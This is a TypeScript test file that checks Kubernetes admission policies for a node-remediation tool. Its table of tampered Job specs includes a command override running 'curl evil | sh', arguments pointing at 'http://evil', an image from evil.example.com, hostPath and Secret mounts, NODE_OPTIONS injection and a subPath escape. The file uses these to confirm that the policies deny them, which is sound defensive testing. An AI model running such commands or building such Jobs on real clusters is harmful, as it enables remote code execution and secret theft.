// The admission policies in deploy/base/remediation-policy.yaml, evaluated with a real CEL evaluator against what
// lib/kube really sends: the remediation Jobs buildRemediationJob makes (as built, and as the API server stores them
// after defaulting) must be admitted, and each way a stolen server token could abuse "create Jobs" must be denied.
// Likewise the nodes/status writes setVethCondition makes, against Node writes that touch anything else.
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { V1Job } from '@kubernetes/client-node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type FakeCluster, makeNode, startFakeCluster } from '@/test/fake-kube/cluster';
import { setVethCondition } from '@/lib/kube/conditions';
import { createJob } from '@/lib/kube/jobs';
import { buildRemediationJob } from '@/lib/kube/remediationJob';
import { type AdmissionRequest, evaluatePolicy } from './tools/admission';
import { kustomize, type Manifest } from './tools/render';

const here = path.dirname(fileURLToPath(import.meta.url));
const base = kustomize(here);
const find = (kind: string, name: string) => {
  const m = base.find((x) => x.kind === kind && x.metadata.name === name);
  if (!m) throw new Error(`no ${kind} ${name}`);
  return m;
};
const jobsPolicy = find('ValidatingAdmissionPolicy', 'vethwatch-remediation-jobs');
const nodePolicy = find('ValidatingAdmissionPolicy', 'vethwatch-node-condition');
const params = find('ConfigMap', 'vethwatch-remediation');
const SERVER = 'system:serviceaccount:vethwatch:vethwatch-server';
const NODE = 'ip-10-0-1-23.ec2.internal';
const IMAGE: string = params.data.image;

const job = (over: Partial<Parameters<typeof buildRemediationJob>[0]> = {}): Manifest =>
  JSON.parse(JSON.stringify(buildRemediationJob({ node: NODE, requestId: 'req-1', planId: '0123456789abcdef', namespace: 'vethwatch', image: IMAGE, ...over })));
const createJobRequest = (object: unknown, username = SERVER): AdmissionRequest => ({
  operation: 'CREATE', group: 'batch', version: 'v1', resource: 'jobs', username, object, params,
});
const denials = (object: unknown) => {
  const out = evaluatePolicy(jobsPolicy, createJobRequest(object));
  if (!out.applies) throw new Error('the Job policy did not apply');
  return out.denied;
};
const pod = (j: Manifest) => j.spec.template.spec;
const container = (j: Manifest) => pod(j).containers[0];

describe('the policies are wired', () => {
  it('each has a binding that denies, the Job policy takes the remediation ConfigMap as its parameter', () => {
    const binding = find('ValidatingAdmissionPolicyBinding', 'vethwatch-remediation-jobs');
    expect(binding.spec).toEqual({
      policyName: 'vethwatch-remediation-jobs',
      validationActions: ['Deny'],
      paramRef: { name: 'vethwatch-remediation', namespace: 'vethwatch', parameterNotFoundAction: 'Deny' },
    });
    expect(find('ValidatingAdmissionPolicyBinding', 'vethwatch-node-condition').spec).toEqual({ policyName: 'vethwatch-node-condition', validationActions: ['Deny'] });
    expect(jobsPolicy.spec.failurePolicy).toBe('Fail');
    expect(nodePolicy.spec.failurePolicy).toBe('Fail');
    expect(jobsPolicy.spec.paramKind).toEqual({ apiVersion: 'v1', kind: 'ConfigMap' });
    // The server reads its Job image from the same ConfigMap, and it is the agent's image.
    const server = find('Deployment', 'vethwatch-server').spec.template.spec.containers[0];
    expect(server.env.find((e: Manifest) => e.name === 'VETHWATCH_AGENT_IMAGE').valueFrom).toEqual({ configMapKeyRef: { name: 'vethwatch-remediation', key: 'image' } });
    expect(IMAGE).toBe(find('DaemonSet', 'vethwatch-agent').spec.template.spec.containers[0].image);
  });

  it('apply to the server only, and to Job creates and nodes/status updates', () => {
    expect(evaluatePolicy(jobsPolicy, createJobRequest({ ...job(), spec: {} }, 'system:serviceaccount:kube-system:job-controller'))).toEqual({ applies: false });
    expect(evaluatePolicy(jobsPolicy, { ...createJobRequest(job()), operation: 'UPDATE' }).applies).toBe(true);
    expect(evaluatePolicy(jobsPolicy, { ...createJobRequest(job()), resource: 'jobs/status' })).toEqual({ applies: false });
    const nodeReq = { operation: 'UPDATE', group: '', version: 'v1', resource: 'nodes/status', username: SERVER, object: {}, oldObject: {} } as const;
    expect(evaluatePolicy(nodePolicy, nodeReq).applies).toBe(true);
    expect(evaluatePolicy(nodePolicy, { ...nodeReq, resource: 'nodes' })).toEqual({ applies: false });
  });
});

describe('remediation Jobs', () => {
  let c: FakeCluster;
  beforeAll(async () => {
    c = await startFakeCluster();
  });
  afterAll(async () => {
    await c.close();
  });

  it('admits the Jobs lib/kube builds, as built and as stored after defaulting', async () => {
    for (const j of [job(), job({ node: 'node-b', requestId: 'r:2', planId: 'ffffffffffffffff' })]) expect(denials(j), j.metadata.name).toEqual([]);
    const ref = await createJob(c.kube, buildRemediationJob({ node: NODE, requestId: 'req-9', planId: '0123456789abcdef', namespace: 'vethwatch', image: IMAGE }) as V1Job);
    const stored = c.fake.store.mustGet('jobs', 'vethwatch', ref.name);
    expect(pod(stored).schedulerName).toBe('default-scheduler'); // really the defaulted object
    expect(denials(stored)).toEqual([]);
  });

  const tamper: Array<[string, (j: Manifest) => void, RegExp]> = [
    ['another image', (j) => (container(j).image = 'evil.example.com/x:latest'), /remediation image/],
    ['the agent image by another tag', (j) => (container(j).image = IMAGE.replace(/:[^:]+$/, ':latest')), /remediation image/],
    ['an extra hostPath volume', (j) => {
      pod(j).volumes.push({ name: 'host-etc', hostPath: { path: '/etc', type: 'Directory' } });
      container(j).volumeMounts.push({ name: 'host-etc', mountPath: '/host-etc' });
    }, /only the host's/],
    ['host-root pointed elsewhere', (j) => (pod(j).volumes.find((v: Manifest) => v.name === 'host-root').hostPath.path = '/var/lib/kubelet'), /only the host's/],
    ['a Secret volume', (j) => (pod(j).volumes.find((v: Manifest) => v.name === 'tmp').secret = { secretName: 'vethwatch-postgres' }) && delete pod(j).volumes.find((v: Manifest) => v.name === 'tmp').emptyDir, /only the host's/],
    ['the host root mounted writable', (j) => (container(j).volumeMounts.find((m: Manifest) => m.name === 'host-root').readOnly = false), /read-only/],
    ['a subPath escape', (j) => (container(j).volumeMounts.find((m: Manifest) => m.name === 'tmp').subPath = '../..'), /read-only/],
    ['a command override', (j) => (container(j).command = ['sh', '-c', 'curl evil | sh']), /entrypoint/],
    ['other arguments', (j) => (container(j).args = ['--root', '/host', '--server', 'http://evil']), /entrypoint/],
    ['an exec hook', (j) => (container(j).lifecycle = { postStart: { exec: { command: ['sh', '-c', 'id'] } } }), /hooks/],
    ['an exec probe', (j) => (container(j).livenessProbe = { exec: { command: ['sh'] } }), /probes/],
    ['NODE_OPTIONS', (j) => container(j).env.push({ name: 'NODE_OPTIONS', value: '--import=data:text/javascript,…' }), /environment/],
    ['a value from a Secret', (j) => container(j).env.push({ name: 'X', valueFrom: { secretKeyRef: { name: 'vethwatch-postgres', key: 'database-url' } } }), /environment/],
    ['a second container', (j) => pod(j).containers.push({ ...container(j), name: 'side' }), /one container/],
    ['an init container', (j) => (pod(j).initContainers = [{ name: 'i', image: IMAGE, command: ['sh'] }]), /one container/],
    ['another node selector', (j) => (pod(j).nodeSelector = { 'kubernetes.io/hostname': 'node-b' }), /pinned/],
    ['node affinity', (j) => (pod(j).affinity = { nodeAffinity: {} }), /pinned/],
    ['no node pinning', (j) => delete pod(j).nodeName, /pinned|entrypoint/],
    ['--node naming another node than the pinned one', (j) => (pod(j).nodeName = 'node-b'), /entrypoint/],
    ['an API token', (j) => (pod(j).automountServiceAccountToken = true), /API token/],
    ['the server service account', (j) => (pod(j).serviceAccountName = 'vethwatch-server'), /API token/],
    ['hostIPC', (j) => (pod(j).hostIPC = true), /hostIPC/],
    ['another name', (j) => (j.metadata.name = 'backup'), /named/],
  ];
  it.each(tamper)('denies %s', (_what, change, message) => {
    const j = job();
    change(j);
    const d = denials(j);
    expect(d.length, 'denied').toBeGreaterThan(0);
    expect(d.join(' | ')).toMatch(message);
  });

  it('denies when the parameter ConfigMap has no image', () => {
    const out = evaluatePolicy(jobsPolicy, { ...createJobRequest(job()), params: { metadata: params.metadata, data: {} } });
    expect(out.applies && out.denied.join(' | ')).toMatch(/remediation image/);
  });
});

describe('the Node condition', () => {
  let c: FakeCluster;
  beforeAll(async () => {
    c = await startFakeCluster();
    c.fake.upsertNode({ ...makeNode(NODE), status: { ...makeNode(NODE).status, addresses: [{ type: 'InternalIP', address: '10.0.1.23' }], capacity: { cpu: '2', pods: '29' } } });
  });
  afterAll(async () => {
    await c.close();
  });
  const update = (oldObject: unknown, object: unknown) =>
    evaluatePolicy(nodePolicy, { operation: 'UPDATE', group: '', version: 'v1', resource: 'nodes/status', username: SERVER, object, oldObject });

  it('admits the writes setVethCondition makes (adding, then changing the condition)', async () => {
    for (const status of ['True', 'False'] as const) {
      const before = structuredClone(c.fake.store.mustGet('nodes', null, NODE));
      await setVethCondition(c.kube, NODE, { status, reason: status === 'True' ? 'MismatchedVeths' : 'NoMismatch', message: 'm' });
      const after = c.fake.store.mustGet('nodes', null, NODE);
      expect(after.status.conditions.map((x: Manifest) => x.type)).toContain('VethMACAddressMismatch');
      expect(update(before, after)).toEqual({ applies: true, denied: [] });
    }
  });

  it('denies changing another condition, the addresses, the capacity', () => {
    const node = c.fake.store.mustGet('nodes', null, NODE);
    const ready = structuredClone(node);
    ready.status.conditions.find((x: Manifest) => x.type === 'Ready').status = 'False';
    const dropped = structuredClone(node);
    dropped.status.conditions = dropped.status.conditions.filter((x: Manifest) => x.type !== 'MemoryPressure');
    const addresses = structuredClone(node);
    addresses.status.addresses = [{ type: 'InternalIP', address: '203.0.113.9' }];
    const capacity = structuredClone(node);
    capacity.status.capacity.pods = '500';
    for (const [what, changed, message] of [
      ['Ready', ready, /only the VethMACAddressMismatch/],
      ['a dropped condition', dropped, /only the VethMACAddressMismatch/],
      ['addresses', addresses, /addresses/],
      ['capacity', capacity, /capacity/],
    ] as const) {
      const out = update(node, changed);
      expect(out.applies && out.denied.join(' | '), what).toMatch(message);
    }
  });
});
